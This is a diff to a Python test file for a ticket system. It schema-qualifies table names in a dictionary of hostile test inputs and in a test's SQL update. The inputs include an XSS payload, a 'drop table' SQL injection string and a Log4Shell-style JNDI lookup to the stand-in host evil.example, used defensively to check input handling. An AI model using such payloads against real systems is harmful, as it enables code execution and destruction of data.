@@ -31,7 +31,7 @@ HOSTILE = {
     "nothing but marks": LONG,
     "invisible": "\u200b",
     "html": "<script>alert(1)</script><img src=x onerror=alert(1)>",
-    "sql": "'; drop table tickets; --",
+    "sql": "'; drop table punctual.tickets; --",
     "format": "{0} %s {ticket} $1 ${jndi:ldap://evil.example}",
     "a zero byte": "be\x00fore",
 }
@@ -158,7 +158,7 @@ async def test_a_hostile_subject_is_found_again_by_its_channel(settings: Setting
         world.env.backend.delete_channel(first.id)
         await world.until_closed(first)
         await world.sql.execute(
-            """update tickets set channel_id = null, opening = true, status = 'open',
+            """update punctual.tickets set channel_id = null, opening = true, status = 'open',
                       opened_at = now() - interval '1 minute' where id = $1""",
             ticket.id,
         )
